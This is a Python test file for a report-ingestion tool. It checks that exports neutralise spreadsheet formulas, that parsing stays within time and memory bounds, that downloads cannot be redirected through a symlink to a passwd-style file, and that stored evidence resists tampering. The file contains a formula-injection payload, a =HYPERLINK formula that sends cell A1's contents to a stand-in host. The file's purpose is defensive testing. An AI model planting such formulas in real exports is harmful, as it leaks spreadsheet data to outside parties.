"""Hostile input and careless operation: formula cells in exports, numbers too long for a cell, readers bounded in
time and memory, the evidence kept and served from the data directory, database errors that clear, the worker's
memory cap. (Links out of the share: test_watcher.py and test_pipeline_e2e.py; sessions: test_web.py.)"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import re
import subprocess
import sys
import time
import tracemalloc
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy.exc import OperationalError

from nianbao.cli import main
from nianbao.settings import Settings
from nianbao.spreadsheet import inert, write_csv, write_xlsx
from report.document import MAX_TEXT_CHARS, Grid, TextLine
from report.extract import extract
from report.model import Source
from report.parse import parse_document
from storage import Store
from storage.evidence import Evidence, EvidenceChanged
from storage.tables import utcnow
from tests import generator
from web.app import create_app
from worker.tasks import process, reconcile_once

HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'


def report_text(seed: int, kind: str | None = None) -> str:
    truth = generator.make_truth(random.Random(seed))
    if kind:
        truth, _ = generator.plant(truth, kind, random.Random(seed))
    return generator.render_spaces(truth, random.Random(seed))


def nianbao(*args: str) -> str:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


# -- exports ----------------------------------------------------------------------------------------------------


def test_inert_cells() -> None:
    for text in ("=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert inert(text) == "'" + text
    for value in ("房县", "1-2", "", 5, -5, None, 1.5):
        assert inert(value) == value
    stream = io.StringIO()
    write_csv(stream, ["=标题"], [["=1+2县", -3]])
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [["'=标题"], ["'=1+2县", "-3"]]


def formulas(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return [formula for name in sheets for formula in re.findall(r"<f>.*?</f>", book.read(name).decode())]


def test_xlsx_writes_strings_as_strings() -> None:
    buffer = io.BytesIO()
    write_xlsx(buffer, "x", ["=A1"], [[HOSTILE_TITLE, "=1+2", 3]])
    data = buffer.getvalue()
    assert formulas(data) == [] and "=HYPERLINK(" in zipfile.ZipFile(io.BytesIO(data)).read(
        "xl/worksheets/sheet1.xml"
    ).decode().replace("&quot;", '"')


def test_cli_and_web_exports_never_carry_a_formula(tmp_path: Path) -> None:
    share = tmp_path / "share"
    county = share / "=1+2县" / "白鹤镇"
    county.mkdir(parents=True)
    (county / "2023.txt").write_text(report_text(3, "requests.total_row"), encoding="utf-8")
    lines = report_text(4, "requests.total_row").splitlines()
    (share / "title.txt").write_text("\n".join([HOSTILE_TITLE + lines[0], *lines[1:]]), encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'nianbao.db'}"
    nianbao("ingest", str(share), "--db", url)
    exported = list(csv.reader(io.StringIO(nianbao("export", "--format", "csv", "--db", url))))
    cells = [cell for row in exported[1:] for cell in row]
    assert "'=1+2县" in cells  # a hostile folder name reaches the region column, made inert
    assert not any(HOSTILE_TITLE in cell for cell in cells)  # a hostile title is never taken for a name
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    nianbao("export", "--format", "xlsx", "-o", str(tmp_path / "out.xlsx"), "--db", url)
    assert formulas((tmp_path / "out.xlsx").read_bytes()) == []
    with TestClient(create_app(Settings(database_url=url, data_dir=tmp_path))) as client:
        for page in ("/findings", "/"):
            web_csv = client.get(f"{page}?format=csv&status=all").content.decode("utf-8-sig")
            assert not any(cell.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(web_csv)) for cell in row)
            assert formulas(client.get(f"{page}?format=xlsx&status=all").content) == []
        assert "=1+2县" in client.get("/findings?format=csv&status=all").content.decode("utf-8-sig")


# -- numbers too long for a cell --------------------------------------------------------------------------------


@pytest.mark.parametrize("digits", [30, 5000])
def test_a_number_too_long_for_a_cell_is_a_problem_never_a_crash(digits: int, tmp_path: Path) -> None:
    text = report_text(5)
    line = next(line for line in text.splitlines() if "本年新收" in line)
    first = re.search(r"\d+", line)
    assert first
    long_line = line[: first.start()] + "9" * digits + line[first.end() :]
    path = tmp_path / "long.txt"
    path.write_text(text.replace(line, long_line) + f"\n本年共收到申请{'8' * digits}件。\n", encoding="utf-8")
    run = subprocess.run(
        [sys.executable, "-m", "nianbao", "check", str(path), str(path), "--format", "json"],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    first_line, second_line = (json.loads(line) for line in run.stdout.splitlines())  # the file after it still read
    assert first_line == second_line
    assert any("超出可以存储的范围" in problem for problem in first_line["problems"])
    assert "value.invalid" in {finding["rule"] for finding in first_line["findings"]}
    assert not any("运行出错" in problem for problem in first_line["problems"])
    # Stored by `ingest` and by the pipeline's task alike.
    url = f"sqlite:///{tmp_path / 'nianbao.db'}"
    assert "新入库 1 份" in nianbao("ingest", str(path), "--db", url)
    store = Store(url)
    (tmp_path / "share").mkdir()
    moved = tmp_path / "share" / "again.txt"
    moved.write_bytes(path.read_bytes() + b"\n")
    sha = hashlib.sha256(moved.read_bytes()).hexdigest()
    outcome = process(store, Settings(data_dir=tmp_path), {}, str(moved), sha, str(tmp_path / "share"))
    assert outcome.state == "stored"
    store.dispose()


# -- readers bounded in time and memory -------------------------------------------------------------------------

TABLE_LINE = st.builds(
    lambda label, numbers: label + " " + " ".join(map(str, numbers)),
    st.sampled_from(["本年新收", "（一）予以公开", "上年结转", "总计", "行政复议", "规章", "一、总体情况", "x"]),
    st.lists(st.integers(0, 10**6), max_size=9),
)


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(
    lines=st.lists(TABLE_LINE, min_size=1, max_size=5),
    repeat=st.integers(1, 200_000),
    suffix=st.sampled_from([".txt", ".md", ".html"]),
)
def test_reading_is_bounded_in_time_and_memory(
    lines: list[str], repeat: int, suffix: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Whatever the size, the parser sees at most MAX_TEXT_CHARS characters; memory stays within a generous bound
    of that (400 bytes a character) plus the bytes read, and time within a ceiling no machine should reach."""
    body = "\n".join(lines) + "\n"
    if suffix == ".html":
        body = (
            "<table>" + "".join(f"<tr><td>{'</td><td>'.join(line.split())}</td></tr>" for line in lines) + "</table>\n"
        )
    data = (body * repeat).encode("utf-8")
    path = tmp_path_factory.mktemp("bound") / f"big{suffix}"
    path.write_bytes(data)
    started = time.monotonic()
    tracemalloc.start()
    try:
        fmt, sha, document = extract(path)
        report = parse_document(document, Source(path=str(path), sha256=sha, format=fmt))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    elapsed = time.monotonic() - started
    characters = sum(
        len(block.text) if isinstance(block, TextLine) else sum(len(c or "") for r in block.rows for c in r)
        for block in document.blocks
        if isinstance(block, TextLine | Grid)
    )
    assert characters <= MAX_TEXT_CHARS
    # Cut wherever the text is past the cap, whitespace left out (an HTML page's markup is no text).
    if len("".join("".join(lines).split())) * repeat > MAX_TEXT_CHARS:
        assert any("只解析了前" in problem for problem in report.problems)
    assert peak < 400 * MAX_TEXT_CHARS + 4 * len(data), peak
    assert elapsed < 300, elapsed


def test_worker_memory_is_capped_per_process() -> None:
    code = (
        "from worker.tasks import limit_memory\n"
        "limit_memory(1024**3)\n"
        "try:\n    bytearray(2 * 1024**3)\nexcept MemoryError:\n    print('refused')\n"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=False)
    assert run.stdout.strip() == "refused", run.stderr


def test_a_file_that_exhausts_the_workers_memory_ends_failed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = Store.open(f"sqlite:///{tmp_path / 'nianbao.db'}")
    path = tmp_path / "a.txt"
    path.write_text(report_text(6), encoding="utf-8")

    def exhausted(*_: object, **__: object) -> None:
        raise MemoryError

    monkeypatch.setattr("worker.tasks.read_report", exhausted)
    sha = hashlib.sha256(path.read_bytes()).hexdigest()
    assert process(store, Settings(data_dir=tmp_path), {}, str(path), sha, str(tmp_path)).state == "failed"
    entry = store.ledger_entry(str(path))
    assert entry is not None and entry.error == "处理所需内存超过上限（2048 MiB），已放弃"
    store.dispose()


# -- the evidence -----------------------------------------------------------------------------------------------


def test_evidence_is_written_once_atomically_and_checked(tmp_path: Path) -> None:
    evidence = Evidence(tmp_path / "evidence")
    share = tmp_path / "share"
    share.mkdir()
    source = share / "a.txt"
    source.write_bytes(b"2023 report")
    sha = hashlib.sha256(b"2023 report").hexdigest()
    assert evidence.keep(source, sha, root=share) is True
    kept = evidence.verified(sha)
    assert kept == tmp_path / "evidence" / sha[:2] / sha and kept.read_bytes() == b"2023 report"
    assert not os.access(kept, os.W_OK) or os.geteuid() == 0
    assert oct(kept.stat().st_mode & 0o777) == "0o444"
    source.write_bytes(b"rewritten")
    assert evidence.keep(source, sha) is True  # kept already: written once
    other = hashlib.sha256(b"what was parsed").hexdigest()
    with pytest.raises(EvidenceChanged):
        evidence.keep(source, other)
    assert evidence.verified(other) is None
    assert sorted(path.name for path in (tmp_path / "evidence").rglob("*") if path.is_file()) == [sha]  # no leftovers
    assert evidence.keep(source, hashlib.sha256(b"rewritten").hexdigest(), max_bytes=4) is False  # too large
    os.chmod(kept, 0o644)
    kept.write_bytes(b"tampered")
    assert evidence.verified(sha) is None


def test_downloads_come_from_the_evidence_never_the_share(tmp_path: Path) -> None:
    share = tmp_path / "share"
    share.mkdir()
    (share / "a.txt").write_text(report_text(7, "requests.total_row"), encoding="utf-8")
    original = (share / "a.txt").read_bytes()
    (tmp_path / "secret.txt").write_text("root:x:0:0")
    url = f"sqlite:///{tmp_path / 'nianbao.db'}"
    nianbao("ingest", str(share), "--db", url)
    (share / "a.txt").unlink()
    (share / "a.txt").symlink_to(tmp_path / "secret.txt")  # the stored file replaced by a link out of the share
    settings = Settings(database_url=url)
    with TestClient(create_app(settings)) as client:
        download = client.get("/versions/1/source")
        assert download.status_code == 200 and download.content == original
        assert 'filename="a.txt"' in download.headers["content-disposition"]
        kept = settings.evidence / hashlib.sha256(original).hexdigest()[:2] / hashlib.sha256(original).hexdigest()
        os.chmod(kept, 0o644)
        kept.write_bytes(b"root:x:0:0")
        refused = client.get("/versions/1/source")
        assert refused.status_code == 404 and "没有保留" in refused.text
        assert str(tmp_path) not in refused.text and str(settings.evidence) not in refused.text
        kept.write_bytes(original)


def test_evidence_of_superseded_versions_is_pruned_after_the_retention(tmp_path: Path) -> None:
    store = Store.open(f"sqlite:///{tmp_path / 'nianbao.db'}")
    share = tmp_path / "share"
    share.mkdir()
    settings = Settings(data_dir=tmp_path, evidence_retention_days=30)
    text = report_text(3)  # 宜阳县人民政府: its two versions are one report's
    shas = []
    for number, suffix in enumerate(["", "\n（更正）\n"]):
        path = share / f"{number}.txt"
        path.write_text(text + suffix, encoding="utf-8")
        sha = hashlib.sha256(path.read_bytes()).hexdigest()
        shas.append(sha)
        assert process(store, settings, {}, str(path), sha, str(share)).state == "stored"
    evidence = Evidence(settings.evidence)
    reconcile_once(store, settings, share, enqueue=lambda *_: None)
    assert evidence.verified(shas[0]) and evidence.verified(shas[1])  # superseded today: kept
    assert store.superseded_before(utcnow() + timedelta(days=1)) == [shas[0]]
    later = settings.model_copy(update={"evidence_retention_days": 1})
    with store.engine.begin() as connection:  # the successor arrived two days ago
        connection.exec_driver_sql("UPDATE report_versions SET received_at = datetime('now', '-2 days')")
    reconcile_once(store, later, share, enqueue=lambda *_: None)
    assert evidence.verified(shas[0]) is None and evidence.verified(shas[1])  # the current version's stays
    store.dispose()


# -- database errors that clear ---------------------------------------------------------------------------------


def test_a_read_only_database_connection_is_reopened_once_writable(tmp_path: Path) -> None:
    store = Store.open(f"sqlite:///{tmp_path / 'nianbao.db'}")
    store.ledger_mark("/share/a.txt", "a" * 64, "queued")
    with store.engine.connect() as connection:  # the pooled connection is stuck read-only (as after chmod 444)
        connection.exec_driver_sql("PRAGMA query_only=ON")
    with pytest.raises(OperationalError, match="readonly"):
        store.ledger_mark("/share/a.txt", "a" * 64, "processing")
    assert store.ledger_mark("/share/a.txt", "a" * 64, "processing").state == "processing"  # the retry works
    store.dispose()


# -- file names of any bytes ------------------------------------------------------------------------------------


def test_check_and_ingest_show_names_that_are_not_utf8_escaped(tmp_path: Path) -> None:
    folder = tmp_path / "share"
    folder.mkdir()
    odd = Path(os.fsdecode(bytes(folder) + b"/bad\xff\xfename.txt"))
    odd.write_text(report_text(9), encoding="utf-8")
    shown = f"{folder}/bad\\xff\\xfename.txt"
    run = subprocess.run(
        [sys.executable, "-m", "nianbao", "check", os.fsencode(odd), "--format", "json"],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert run.returncode == 0 and json.loads(run.stdout)["source"]["path"] == shown, run.stderr
    url = f"sqlite:///{tmp_path / 'nianbao.db'}"
    for _ in range(2):  # stored, then found unchanged
        ingested = subprocess.run(
            [sys.executable, "-m", "nianbao", "ingest", str(folder), "--db", url],
            capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip
        assert ingested.returncode == 0 and shown in ingested.stdout, ingested.stderr
    store = Store(url)
    with store.engine.connect() as connection:
        assert connection.exec_driver_sql("SELECT source_path FROM report_versions").scalars().all() == [shown]
    store.dispose()


def test_ingest_of_a_relative_folder_stores_absolute_resolved_paths(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = tmp_path / "real" / "share"
    real.mkdir(parents=True)
    (real / "a.txt").write_text(report_text(10), encoding="utf-8")
    (tmp_path / "linked").symlink_to(tmp_path / "real")  # a share reached through a linked folder
    monkeypatch.chdir(tmp_path)
    url = f"sqlite:///{tmp_path / 'nianbao.db'}"
    nianbao("ingest", "linked/share/", "--db", url)
    store = Store(url)
    with store.engine.connect() as connection:
        paths = connection.exec_driver_sql("SELECT source_path FROM report_versions").scalars().all()
    assert paths == [str(real / "a.txt")]
    store.dispose()
